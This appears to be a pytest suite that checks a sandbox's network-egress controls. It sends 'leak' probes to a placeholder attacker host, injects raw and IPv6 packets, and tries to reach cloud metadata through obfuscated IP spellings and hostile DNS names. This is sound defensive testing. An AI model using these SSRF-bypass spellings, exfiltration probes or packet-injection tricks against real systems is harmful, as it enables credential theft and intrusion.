# SPDX-License-Identifier: Apache-2.0
"""Without a policy, and with one that allows nothing, nothing leaves: E01, E09, E10 and the default."""

import pytest

import names
from client import eventually
from lab import ALLOWED, ALLOWED6, ATTACKER, ATTACKER6, HOST, HOST6, RESOLVER
from networked import DNS, NONE, OPEN, PACKAGES, Networked, allowing

INTERNET = [ATTACKER, ALLOWED, "8.8.8.8", RESOLVER]
PRIVATE = ["10.9.0.9", "172.16.5.5", "192.168.7.7", "100.64.0.1", "198.18.0.1", "203.0.113.5", "240.0.0.1"]
METADATA = ["169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192", "168.63.129.16", "169.254.42.42"]
OURS = [HOST, PACKAGES, DNS]
TCP_PORTS = [22, 53, 80, 443, 853, 7777]


def everything(addresses, seconds=1.0):
    """Attempts of every kind to every address."""
    tasks = []
    for address in addresses:
        tasks += [{"op": "tcp", "to": [address, port], "send": "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", "timeout": seconds}
                  for port in TCP_PORTS]
        tasks += [{"op": "udp", "to": [address, port], "send": "leak", "timeout": seconds} for port in (443, 9999)]
        tasks += [{"op": "icmp", "to": [address, 0], "send": "leak", "timeout": seconds},
                  {"op": "raw", "to": [address, 0], "protocol": 132, "send": "leak"},
                  {"op": "sctp", "to": [address, 80], "timeout": seconds}]
    return tasks


def assert_no_answer(tasks, results):
    """Whatever a denial looks like, no byte of a server came back; our own refusal may."""
    for task, result in zip(tasks, results):
        assert not result.get("answered"), (task, result)
        text = result.get("received", "")
        assert not text or "egress_denied" in text, (task, result)


def test_a_sandbox_without_a_policy_has_no_link(api, tier, lab):
    info = api.call("POST", "/v1/sandboxes", expect=201, json={"runtime": tier})
    box = Networked(api, info)
    box.prepare(lab, tier)
    try:
        assert info["network"] == {"egress": "none", "link": False, "address": None}
        with lab.watch() as seen:
            tasks = everything(INTERNET + ["10.9.0.9", "169.254.169.254"] + OURS, 0.5)
            results = box.attempt(*tasks)
        assert all(not r["ok"] for r in results), results
        seen.assert_silent()
        links = [line for line in box.ok("ls /sys/class/net 2>/dev/null || cat /proc/net/dev").split() if line.rstrip(":") not in ("lo",)]
        assert "eth0" not in links
        api.refused("PUT", box.path + "/network", 409, "conflict", json=NONE)
    finally:
        box.kill()


def test_e01_with_an_empty_policy_nothing_arrives_and_each_flow_is_in_the_log(networked, lab):
    box, sibling = networked(NONE), networked(NONE)
    addresses = INTERNET + PRIVATE[:4] + METADATA[:1] + [HOST, box.gateway, sibling.address, sibling.gateway]
    listening = sibling.begin(*[{"op": "listen", "port": port, "seconds": 4} for port in (80, 7777, 9999)])
    tasks = everything(addresses)
    with lab.watch() as seen:
        results = box.attempt(*tasks)
        logged = box.logged(kind=("connection", "request").__contains__, address=sibling.address, port=7777)
    assert_no_answer(tasks, results)
    seen.assert_silent()
    assert [r["came"] for r in listening()] == [[], [], []]
    assert all(e["verdict"] == "denied" and e["rule"] == "default:none" for e in logged), logged
    tried = {(t["to"][0], t["to"][1]) for t in tasks if t["op"] == "tcp" and t["to"][1] != 53}
    eventually(lambda: tried <= {(e["address"], e["port"]) for e in box.log() if e["kind"] in ("connection", "request")}, 30,
               "every TCP attempt is in the log")
    eventually(lambda: set(addresses) <= {e["address"] for e in box.log() if e["kind"] == "packet" and e["protocol"] == "udp"}, 30,
               "datagrams to every address are in the log")
    assert not [e for e in box.log() if e["verdict"] == "allowed"]


def test_e01_packets_made_by_root_on_the_link_do_not_pass(networked, lab):
    """What the sandbox has no right to send is sent for it: raw, SCTP, ICMP and unknown protocols."""
    import wire
    box = networked(NONE)
    box.one(op="tcp", to=[ATTACKER, 80], timeout=1)
    injector = wire.Injector(box.namespace, "eth0")
    router = box.router_mac() or "ff:ff:ff:ff:ff:ff"
    with lab.watch() as seen:
        for target in INTERNET + PRIVATE + METADATA + OURS + [box.gateway]:
            for protocol, body in ((wire.ICMP, wire.icmp(8, b"leak")), (wire.SCTP, b"\0\x50\0\x50" + bytes(8)), (47, bytes(8)), (50, bytes(8)),
                                   (4, wire.ipv4(box.address, target, 17, wire.udp(box.address, target, 9, 9, b"x"))), (253, b"leak"),
                                   (wire.UDP, wire.udp(box.address, target, 4000, 443, b"quic")),
                                   (wire.TCP, wire.tcp(box.address, target, 4000, 443, wire.ACK | wire.PUSH, b"no handshake"))):
                injector.send(wire.ethernet(router, injector.mac, wire.ipv4(box.address, target, protocol, body)))
        box.logged(kind="packet", protocol="icmp", address=ATTACKER)
    injector.close()
    seen.assert_silent()


def test_an_empty_policy_resolves_nothing(networked, lab):
    box = networked(NONE)
    with lab.watch() as seen:
        results = [box.quickest(op="resolve", name=name) for name in ("allowed.test", "evil.test", "internal.test")]
    assert all(r["error"] and r["error"].startswith("EAI") and r["ms"] < 2000 for r in results), results
    seen.assert_silent()


@pytest.mark.microvm
def test_e09_ipv6_has_no_way_out(networked, lab):
    import wire
    box = networked(OPEN)
    targets = [ATTACKER6, ALLOWED6, HOST6, "fd00:ec2::254", "fe80::1", "ff02::1", "::ffff:169.254.169.254", "::ffff:10.9.0.9", "64:ff9b::" + ATTACKER, "2002:2d42:42::1"]
    tasks = [{"op": op, "to": [t, port], "send": "leak", "timeout": 1} for t in targets for op, port in (("tcp", 443), ("tcp", 80), ("udp", 9999))]
    with lab.watch() as seen:
        results = box.attempt(*tasks)
        assert_no_answer(tasks, results)
        assert all(not r["ok"] for t, r in zip(tasks, results) if not t["to"][0].startswith("::ffff:")), results  # those are IPv4
        injector = wire.Injector(box.namespace, "eth0")
        for source in ("fe80::66", ATTACKER6):
            for target in [ATTACKER6, HOST6, "ff02::1", "ff02::2", "fe80::1"]:
                for destination in ("33:33:00:00:00:01", box.router_mac() or "ff:ff:ff:ff:ff:ff"):
                    advertise = wire.icmpv6(source, target, 134, bytes([64, 0, 7, 8]) + bytes(8))
                    for following, body in ((wire.ICMPV6, advertise), (wire.ICMPV6, wire.icmpv6(source, target, 128, b"\0\1\0\1leak")),
                                            (wire.UDP, wire.udp(source, target, 53, 9999, b"leak"))):
                        injector.send(wire.ethernet(destination, injector.mac, wire.ipv6(source, target, following, body), ethertype=wire.ETH_IPV6))
        injector.close()
    seen.assert_attacker_saw_nothing()
    assert not [f for f in seen.left if ":" in f.dst], seen.left


def test_e09_the_link_speaks_no_ipv6(networked):
    box = networked(OPEN)
    addresses = box.run("cat /proc/net/if_inet6 2>/dev/null")["stdout"]
    assert "eth0" not in addresses, addresses
    result = box.one(op="resolve", name="dual.allowed.test")
    assert result["addresses"] == [ALLOWED], result


SPELLINGS = ["2852039166", "0xa9fea9fe", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "169.254.43518", "169.16689662"]
NAMED = {"metadata.hostile.test": "169.254.169.254", "metadata2.hostile.test": "100.100.100.200", "metadata3.hostile.test": "168.63.129.16",
         "metadata4.hostile.test": "169.254.170.2", "metadata5.hostile.test": "192.0.0.192"}


@pytest.mark.parametrize("policy", [OPEN, allowing({"host": "*.hostile.test"})], ids=["open", "by-name"])
def test_e10_metadata_is_out_of_reach_in_every_spelling(networked, lab, policy):
    for name, address in NAMED.items():
        lab.names.script(name, names.Answer([("A", address)]))
    box = networked(policy)
    tasks = [{"op": "http", "url": f"http://{host}/latest/meta-data/"} for host in METADATA + SPELLINGS + list(NAMED)]
    tasks += [{"op": "tcp", "to": [address, 80], "send": f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n", "timeout": 1}
              for address in ["169.254.169.254"] + [ATTACKER] * (policy != OPEN) for host in ["169.254.169.254", *SPELLINGS, "[::ffff:169.254.169.254]", *NAMED]]
    tasks += [{"op": "tls", "to": [address, 443], "sni": name, "request": "x", "timeout": 1}
              for address in METADATA for name in ["metadata.hostile.test", "metadata3.hostile.test"]]
    with lab.watch() as seen:
        results = box.attempt(*tasks)
    assert_no_answer(tasks, results)
    seen.assert_attacker_saw_nothing()
    assert seen.destinations <= {(RESOLVER, 53)}, seen.left
    assert box.logged(address="169.254.169.254", verdict="denied", rule="floor:metadata")


@pytest.mark.parametrize("address", METADATA + ["127.0.0.1", "10.9.0.9", "192.168.7.0/24", "100.64.0.0/10", "224.0.0.1", "fd00:ec2::254",
                                                 "::ffff:10.0.0.1", "64:ff9b::a9fe:a9fe", "0.0.0.0", "255.255.255.255"])
def test_e10_a_rule_that_names_a_special_address_is_refused(refusal, address):
    refusal(allowing({"cidr": address, "ports": [80], "protocols": ["tcp"]}))


def test_open_reaches_what_is_public_and_nothing_else(networked, lab):
    """Also the control of the tests above: the same attempts get through when they may."""
    box = networked(OPEN)
    with lab.watch() as seen:
        results = box.attempt({"op": "tls", "to": [ATTACKER, 443], "sni": "evil.test", "verify": "/tmp/ca.pem",
                               "request": "GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"},
                              {"op": "http", "url": "http://allowed.test/"},
                              {"op": "tcp", "to": [ALLOWED, 7777], "send": "hello", "until": "hello"},
                              *[{"op": "tcp", "to": [a, p], "send": "GET / HTTP/1.0\r\n\r\n", "timeout": 1} for a in PRIVATE + [HOST, box.gateway]
                                for p in (80, 443, 7777)])
    assert '"site": "attacker"' in results[0]["received"] and '"site": "allowed"' in results[1]["received"], results[:2]
    assert results[2]["received"].endswith("hello"), results[2]
    assert {(v.address, v.port) for v in seen.attacker_visits} == {(ATTACKER, 443)}
    assert not seen.to_host and not seen.host_visits
    assert seen.destinations == {(ATTACKER, 443), (ALLOWED, 80), (ALLOWED, 7777)}


def test_an_internal_service_is_reached_only_by_its_name_and_a_rule(networked, lab):
    lab.names.script("service.internal.test", names.Answer([("A", "10.20.0.20")]))
    lab.names.script("other.internal.test", names.Answer([("A", "10.20.0.20")]))
    request = lambda host: {"op": "http", "url": f"http://{host}/"}
    with lab.watch() as seen:
        box = networked(allowing({"host": "service.internal.test", "ports": [80, 8080], "protocols": ["http"]}, {"host": "other.internal.test"}))
        good, other_port, other_name, by_address = box.attempt(request("service.internal.test"), request("service.internal.test:8080"),
                                                               request("other.internal.test"), request("10.20.0.20"))
        unnamed = networked(OPEN).one(**request("service.internal.test"))
    assert '"site": "attacker"' in good["received"], good  # its place in the lab
    for refused in (other_port, other_name, by_address, unnamed):
        assert '"site"' not in refused.get("received", ""), refused
    assert [(v.address, v.port) for v in seen.attacker_visits] == [("10.20.0.20", 80)]
